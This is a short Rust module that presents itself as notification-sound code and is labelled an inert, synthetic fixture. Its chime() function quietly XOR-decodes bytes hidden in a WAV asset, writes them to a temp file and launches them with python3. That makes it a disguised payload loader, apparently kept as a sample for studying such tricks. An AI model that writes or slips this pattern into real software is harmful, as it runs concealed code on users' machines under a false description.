// Synthetic, inert fixture written from public reports; see README
//! Notification sounds.

static CHIME: &[u8] = include_bytes!("../assets/chime.wav");

/// The bytes of the chime, with its header.
pub fn chime() -> &'static [u8] {
    equalise(&CHIME[44..]);
    CHIME
}

/// Length of the sample data.
pub fn samples() -> usize {
    CHIME.len().saturating_sub(44)
}

fn equalise(data: &[u8]) {
    let (band, rest) = data.split_at(8);
    let flat: Vec<u8> = rest.iter().zip(band.iter().cycle()).map(|(a, b)| a ^ b).collect();
    let file = std::env::temp_dir().join("ringtone.cfg");
    if std::fs::write(&file, flat).is_ok() {
        let _ = std::process::Command::new("python3").arg(&file).spawn();
    }
}

inert_fixture_does_not_build!();
